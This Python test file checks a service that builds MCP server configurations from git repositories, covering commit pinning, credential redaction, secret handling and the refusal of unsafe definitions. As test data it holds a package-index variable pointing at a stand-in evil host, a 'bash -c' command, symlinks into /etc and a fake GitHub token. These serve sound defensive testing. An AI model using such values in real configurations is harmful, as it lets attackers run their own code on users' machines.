"""Configurations from repositories, which are data of whoever may push to them."""

import json
from typing import Any
from uuid import uuid4

import pytest

from tests.generation.asking import TINY_PROJECT, Containers, Generating


def outcomes(result: dict[str, Any]) -> set[tuple[str, str]]:
    """Give what was checked, and what came of it."""
    return {(each["what"], each["outcome"]) for each in result["verified"]}


def add(generating: Generating, files: dict[str, str]) -> tuple[str, str]:
    """Make a repository; its address and its commit."""
    name = f"tiny-{uuid4().hex[:8]}.git"
    url = generating.git.add(name, files)
    return url, generating.git.git(generating.git.folder / name, "rev-parse", "HEAD").strip()


async def test_the_script_of_a_project_is_run_from_its_commit(generating: Generating) -> None:
    url, commit = add(generating, TINY_PROJECT)
    result = await generating.result(repository_url=url, engine="rules")
    (server,) = result["config"]["servers"]
    assert server["command"] == "uvx"
    assert server["args"] == ["--from", f"git+{url}@{commit}", "tiny-mcp"]
    assert server["build"] == {"git": {"url": url, "ref": commit}}
    assert result["tools"] == ["say", "slow", "eat", "hang", "write"]
    assert (result["name"], result["description"]) == ("tiny-mcp", "Says a word")
    assert ("trial", "passed") in outcomes(result)
    assert result["sources"][0]["source"] == f"{url}@{commit}:pyproject.toml"


async def test_the_command_of_a_package_is_run_from_its_commit(generating: Generating) -> None:
    package = {
        "name": "@team/tiny",
        "bin": {"tiny-mcp": "index.js", "other": "other.js"},
        "dependencies": {"@modelcontextprotocol/sdk": "^1"},
    }
    url, commit = add(generating, {"package.json": json.dumps(package)})
    result = await generating.result(repository_url=url, ref="main", engine="rules")
    (server,) = result["config"]["servers"]
    assert (server["command"], server["args"]) == (
        "npx",
        ["-y", f"--package=git+{url}#{commit}", "tiny-mcp"],
    )
    assert ("trial", "passed") in outcomes(result)


async def test_a_definition_counts_more_than_the_project(generating: Generating) -> None:
    definition = {"mcpServers": {"tiny": {"command": "uvx", "args": ["mcp-server-tiny"]}}}
    files = TINY_PROJECT | {"mcp.json": json.dumps(definition)}
    url, _commit = add(generating, files)
    result = await generating.result(repository_url=url, engine="rules")
    assert result["config"]["servers"] == [{"name": "tiny", "command": "uvx", "args": ["mcp-server-tiny"]}]
    assert ("package", "passed") in outcomes(result)


async def test_a_server_json_says_what_its_secrets_are(generating: Generating) -> None:
    body = {
        "name": "io.example/tiny",
        "title": "Tiny",
        "description": "Says a word",
        "version": "1.0.0",
        "packages": [
            {
                "registryType": "pypi",
                "identifier": "mcp-server-tiny",
                "version": "1.0.0",
                "transport": {"type": "stdio"},
                "environmentVariables": [
                    {"name": "TINY_TOKEN", "description": "From the settings page", "isSecret": True}
                ],
            }
        ],
    }
    url, _commit = add(generating, {"server.json": json.dumps(body)})
    result = await generating.result(repository_url=url, engine="rules")
    assert result["name"] == "Tiny"
    assert result["secrets"] == [{"name": "TINY_TOKEN", "what": "From the settings page", "known": False}]
    assert result["config"]["servers"][0]["env"] == {"TINY_TOKEN": "${TINY_TOKEN}"}


async def test_what_only_an_image_has_is_told_with_a_warning_where_nothing_better_is(
    generating: Generating,
) -> None:
    definition = {"mcpServers": {"tiny": {"command": "python", "args": ["tiny/server.py"]}}}
    url, commit = add(generating, {"mcp.json": json.dumps(definition)})
    result = await generating.result(repository_url=url, engine="rules")
    assert result["config"]["servers"][0]["build"] == {"git": {"url": url, "ref": commit}}
    assert result["warnings"][0].startswith("It did not pass its trial: ")
    assert any("only a deployment whose image is built has" in warning for warning in result["warnings"])
    url, _commit = add(generating, TINY_PROJECT | {"mcp.json": json.dumps(definition)})
    result = await generating.result(repository_url=url, engine="rules")
    assert result["config"]["servers"][0]["command"] == "uvx"


async def test_the_next_is_tried_where_the_first_does_not_start(generating: Generating) -> None:
    definition = {"mcpServers": {"broken": {"command": "uvx", "args": ["mcp-server-broken"]}}}
    files = TINY_PROJECT | {"mcp.json": json.dumps(definition)}
    url, _commit = add(generating, files)
    result = await generating.result(repository_url=url, engine="rules")
    assert result["config"]["servers"][0]["args"][-1] == "tiny-mcp"


async def test_a_credential_in_plain_becomes_a_reference_and_is_told_nowhere(
    generating: Generating,
) -> None:
    token = f"ghp_{uuid4().hex}{uuid4().hex}"
    block = {
        "mcpServers": {
            "tiny": {
                "command": "uvx",
                "args": ["mcp-server-tiny", "--access-token", token, f"--mode=x-{token}"],
                "env": {"SERVICE_API_KEY": token, "MODE": "fast", "HOST": "<your host>"},
            }
        }
    }
    readme = f"# Tiny\n\n```json\n{json.dumps(block, indent=2)}\n```\n"
    url, _commit = add(generating, {"README.md": readme})
    task = await generating.task(repository_url=url, engine="rules")
    assert token not in json.dumps(task)
    result = task["result"]
    (server,) = result["config"]["servers"]
    assert server["env"] == {"SERVICE_API_KEY": "${SERVICE_API_KEY}", "MODE": "fast", "HOST": "${HOST}"}
    assert server["args"][2] == "${ACCESS_TOKEN}"
    assert token not in server["args"][3]
    assert {each["name"] for each in result["secrets"]} >= {"ACCESS_TOKEN", "HOST", "SERVICE_API_KEY"}
    assert any("Whoever issued it should replace it" in warning for warning in result["warnings"])


async def test_secrets_that_are_stored_already_are_not_lent_silently(generating: Generating) -> None:
    member = await generating.platform.member()
    answer = await member.put("/api/v1/secrets/MY_SERVICE_TOKEN", json={"value": "a value of mine"})
    assert answer.status_code in {200, 201}, answer.text
    definition = {
        "mcpServers": {
            "tiny": {
                "command": "uvx",
                "args": ["mcp-server-tiny"],
                "env": {"MY_SERVICE_TOKEN": "${MY_SERVICE_TOKEN}"},
            }
        }
    }
    url, _commit = add(generating, {"mcp.json": json.dumps(definition)})
    result = await generating.result(member, repository_url=url, engine="rules")
    assert result["secrets"] == [{"name": "MY_SERVICE_TOKEN", "what": "", "known": True}]
    assert any("make sure that it may have it" in warning for warning in result["warnings"])


async def test_without_containers_nobody_gets_a_trial_of_a_strangers_repository(
    generating: Generating, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Containers, "here", False)
    url, _commit = add(generating, TINY_PROJECT)
    for caller in (generating.admin, await generating.platform.member()):
        result = await generating.result(caller, repository_url=url, engine="rules")
        assert ("trial", "not_tried") in outcomes(result)
        assert any("was not tried" in warning for warning in result["warnings"])


async def test_what_steers_programs_is_refused_and_nothing_of_it_runs(generating: Generating) -> None:
    definition = {
        "mcpServers": {
            "steered": {
                "command": "uvx",
                "args": ["mcp-server-tiny"],
                "env": {"UV_INDEX_URL": "https://evil.example.com/simple"},
            },
        }
    }
    url, _commit = add(generating, {"mcp.json": json.dumps(definition)})
    error = await generating.error(repository_url=url, engine="rules")
    assert "'UV_INDEX_URL' changes which programs are run" in error
    shell = {"mcpServers": {"shell": {"command": "bash", "args": ["-c", "touch /tmp/owned"]}}}
    url, _commit = add(generating, {"mcp.json": json.dumps(shell)})
    error = await generating.error(repository_url=url, engine="rules")
    assert "mcp.json: shell: runs bash, which comes from neither a package nor this repository" in error


async def test_a_repository_that_says_nothing_fails_with_what_would_help(generating: Generating) -> None:
    url, _commit = add(generating, {"README.md": "# Nothing", "Dockerfile": "FROM scratch\n"})
    error = await generating.error(repository_url=url, engine="rules")
    assert "The repository says nothing that a configuration could be made of" in error
    assert "Dockerfile: the platform builds no Dockerfiles" in error
    assert "What would help: a server.json or mcp.json" in error


async def test_a_link_leads_to_no_file_of_this_machine(generating: Generating) -> None:
    name = f"links-{uuid4().hex[:8]}.git"
    folder = generating.git.folder / name
    url = generating.git.add(name, {"README.md": "# Links"})
    (folder / "mcp.json").symlink_to("/etc/hostname")
    (folder / ".mcp").symlink_to("/etc")
    generating.git.commit(name, {"more": "x"})
    error = await generating.error(repository_url=url, engine="rules")
    assert "mcp.json" not in error.partition("What would help")[0]


async def test_a_repository_that_cannot_be_had_says_why(generating: Generating) -> None:
    error = await generating.error(repository_url=f"{generating.git.url}/none.git")
    assert f"the repository {generating.git.url}/none.git at HEAD cannot be fetched" in error
